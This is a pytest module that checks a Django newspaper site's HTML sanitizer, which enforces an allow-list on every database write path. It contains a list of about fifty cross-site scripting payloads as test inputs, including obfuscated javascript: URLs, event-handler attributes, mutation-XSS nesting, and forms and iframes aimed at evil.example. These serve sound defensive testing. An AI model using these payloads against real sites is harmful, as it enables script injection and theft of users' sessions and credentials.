"""The HTML that may be stored, on every way into the database."""

import json
import re

import pytest
from bs4 import BeautifulSoup
from django.core.exceptions import ValidationError
from django.core.management import call_command
from hypothesis import given
from hypothesis import strategies as st

from articles.models import Article, Video
from sections.html import ATTRIBUTES, CLASSES, ELEMENTS, SCHEMES, plain_text, sanitize
from sections.models import Page
from tests.factories import make_article, make_section

BAD = '<p onclick="steal()">One.</p><script>steal()</script>'
GOOD = "<p>One.</p>"

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="https://a.example" onmouseover="alert(1)" style="position:fixed">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p class="site-header" id="top">x</p>',
    '<svg onload="alert(1)"><animate onbegin=alert(1)></svg>',
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>body{display:none}</style>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title></title><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- a comment -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php system('ls') ?>",
    '<video src="https://evil.example" autoplay onplay="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
    '<body onload="alert(1)">x</body>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<figure data-photo="x" data-embed="javascript:alert(1)" onclick="alert(1)"></figure>',
    '<figure data-embed="data:text/html,<script>alert(1)</script>"></figure>',
    '<p data-reads="1" data-print hidden contenteditable tabindex="1">x</p>',
    '<a target="_blank" rel="opener" ping="https://evil.example" href="https://a.example">x</a>',
    '<table background="javascript:alert(1)"><tr><td background="x">1</td></tr></table>',
    "\0<p>\0x\0</p>",
    "<p>" * 500 + "x",
]


def complaints(html):
    """Everything in a text that the allow-list does not name."""
    for element in BeautifulSoup(html, "html.parser").find_all(True):
        allowed = ATTRIBUTES["*"] | ATTRIBUTES.get(element.name, set())
        if element.name not in ELEMENTS:
            yield element.name
        for name, value in element.attrs.items():
            if name == "class":
                if not set(value) <= CLASSES.get(element.name, set()):
                    yield f"class {value}"
            elif name not in allowed:
                yield f"{element.name} {name}"
            elif name in ("href", "cite"):  # data-embed is only ever used by render_body, which looks at it
                # Browsers pass over control characters and white space before they read the scheme.
                scheme = re.match(r"([a-z][a-z0-9+.-]*):", re.sub(r"[\0-\x20]", "", value), re.IGNORECASE)
                if scheme and scheme[1].lower() not in SCHEMES:
                    yield f"{name} {value}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_it_lets_no_attack_through(attack):
    html = sanitize(f"<p>Before.</p>{attack}")
    assert list(complaints(html)) == []
    assert "\0" not in html
    assert "<!--" not in html
    assert html.startswith("<p>Before.</p>")
    assert sanitize(html) == html


@pytest.mark.parametrize(
    "html",
    [
        '<p>A <strong>b</strong> <em>c</em> <a href="https://a.example/?b=1&amp;c=2" title="d">e</a>.</p>',
        '<p class="pullquote">Said she.</p><aside class="factbox"><p>Facts.</p></aside>',
        '<h2 id="sec-1">Why</h2><p>Note<sup><a href="#fn1">1</a></sup>.</p><p id="fn1">There.</p>',
        '<blockquote cite="https://a.example/"><p>Said he.</p></blockquote>',
        '<ol start="3" reversed="" type="a"><li>x</li></ol><ul><li>y</li></ul>',
        '<figure data-photo="6a0b8f2e-3f1c-4a5e-9d59-0a7c50c0ffee"></figure>',
        '<figure data-embed="https://www.youtube.com/watch?v=abc&amp;t=2"></figure>',
        '<table><caption>C</caption><thead><tr><th scope="col" colspan="2">H</th></tr></thead>'
        '<tbody><tr><td rowspan="2">1</td><td>2</td></tr></tbody></table>',
        '<p lang="ko" dir="ltr">서울 <ruby>漢<rt>한</rt></ruby></p>',
        '<p>Write to <a href="mailto:a@example.com">us</a> or <a href="tel:+8225550161">call</a>.</p>',
        '<p><time datetime="2021-02-27">Saturday</time> <abbr title="won">KRW</abbr></p>',
        "<p>a&nbsp;b &lt; c &amp; d</p>",
        "<pre>a\n  b\n\n</pre><hr><p>x<br>y</p>",
        "",
    ],
)
def test_it_keeps_what_newspapers_write(html):
    assert sanitize(html) == html


def test_it_keeps_the_words_of_elements_that_go():
    assert sanitize("<article><font color=red>One</font> <center>two</center></article>") == "One two"


def test_it_forgets_the_words_of_scripts_and_styles():
    assert sanitize("<script>steal()</script><style>p{}</style>") == ""


def test_it_does_not_eat_a_line_with_every_save():
    assert sanitize("<pre>\n\n\na\n\nb</pre>") == "<pre>a\n\nb</pre>"
    assert sanitize("<a><select><a>") == "<a></a><a></a>"


def test_it_takes_nothing_for_nothing():
    assert sanitize(None) == ""


def test_it_keeps_no_id_that_a_page_needs_itself():
    ids = ("main", "top", "menu", "story", "photo-1", "related", "latest", "results", "top-10", "size-s")
    assert "id=" not in sanitize("".join(f'<p id="{name}">x</p>' for name in ids))


# Pieces that parsers are known to trip over, and text between them.
PIECES = st.lists(
    st.one_of(
        st.sampled_from([f"<{name}>" for name in sorted(ELEMENTS)] + [f"</{name}>" for name in sorted(ELEMENTS)]),
        st.sampled_from(
            ["<svg>", "</svg>", "<math>", "<style>", "</style>", "<script>", "<select>", "<option>", "<form>"]
        ),
        st.sampled_from(
            ["<!--", "-->", "<![CDATA[", "]]>", "&", "&amp;", "&lt;", "&#0;", "&nbsp", "\0", "\n", "\r", "\f"]
        ),
        st.sampled_from(['<a href="', '">', "<p id='fn1' ", "<textarea>", "<title>", "<plaintext>", "<br/>", "<col>"]),
        st.sampled_from(["<p class='pullquote x'>", '<figure data-photo="1">', '<p lang="ko">', "<td colspan=2>"]),
        st.text(max_size=8),
    ),
    max_size=14,
).map("".join)


@given(PIECES)
def test_it_changes_nothing_the_second_time(html):
    once = sanitize(html)
    assert sanitize(once) == once


@given(PIECES)
def test_it_only_lets_through_what_the_list_names(html):
    assert list(complaints(sanitize(html))) == []


@given(st.text())
def test_it_keeps_plain_words(text):
    """Text without markup comes out as the same words."""
    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    assert plain_text(sanitize(escaped)).split() == text.replace("\0", "").split()


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>One.</p><p>Two.</p>", "One. Two."),
        ("<h2>Why</h2><ul><li>a</li><li>b</li></ul>", "Why a b"),
        ("<table><tbody><tr><td>1</td><td>2</td></tr></tbody></table>", "1 2"),
        ("<p>a<br>b</p>", "a b"),
        ("<p>in<em>side</em> word</p>", "inside word"),
        ("<p>Q&amp;A &lt;b&gt; &amp;lt;</p>", "Q&A <b> &lt;"),
        ("<p>a&nbsp;b</p>", "a b"),
        ('<p>One.</p><figure data-photo="x"></figure><p>Two.</p>', "One. Two."),
        ("", ""),
        (None, ""),
    ],
)
def test_it_reads_the_words_of_a_text(html, text):
    assert plain_text(html) == text


# ---- every way in


def body_of(article):
    return Article.objects.values_list("body", flat=True).get(pk=article.pk)


@pytest.mark.django_db
def test_it_is_applied_by_every_way_of_writing():
    story = make_article(body=BAD)
    assert body_of(story) == GOOD
    Article.objects.filter(pk=story.pk).update(body=BAD + "update")
    assert body_of(story) == f"{GOOD}update"
    story.body = BAD + "save"
    story.save()
    assert body_of(story) == f"{GOOD}save"
    story.body = BAD + "save of one field"
    story.save(update_fields=["body"])
    assert body_of(story) == f"{GOOD}save of one field"
    story.body = BAD + "bulk_update"
    Article.objects.bulk_update([story], ["body"])
    assert body_of(story) == f"{GOOD}bulk_update"
    Article.objects.update_or_create(pk=story.pk, defaults={"body": BAD + "update_or_create"})
    assert body_of(story) == f"{GOOD}update_or_create"


@pytest.mark.django_db
def test_it_is_applied_by_bulk_create():
    made = Article(section=make_section(), headline="Rain", body=BAD)
    Article.objects.bulk_create([made])
    assert body_of(made) == GOOD


@pytest.mark.django_db
def test_it_is_applied_by_loaddata(tmp_path):
    rows = [{"model": "sections.page", "fields": {"address": "/about/", "title": "About", "body": BAD}}]
    path = tmp_path / "bad.json"
    path.write_text(json.dumps(rows))
    call_command("loaddata", path, verbosity=0)
    assert Page.objects.get().body == GOOD


@pytest.mark.django_db
def test_it_is_applied_by_forms_before_limits_are_checked():
    story = make_article()
    story.body = BAD
    story.full_clean()
    assert story.body == GOOD
    story.body = f"<p>{'x' * 500_001}</p>"
    with pytest.raises(ValidationError) as refused:
        story.full_clean()
    assert set(refused.value.message_dict) == {"body"}


@pytest.mark.django_db
def test_it_is_applied_to_every_text_with_markup():
    Video.objects.create(article=make_article(), external_url="https://a.example/", transcript=BAD)
    assert Video.objects.get().transcript == GOOD
    Page.objects.create(address="/about/", title="About", body=BAD)
    assert Page.objects.get().body == GOOD
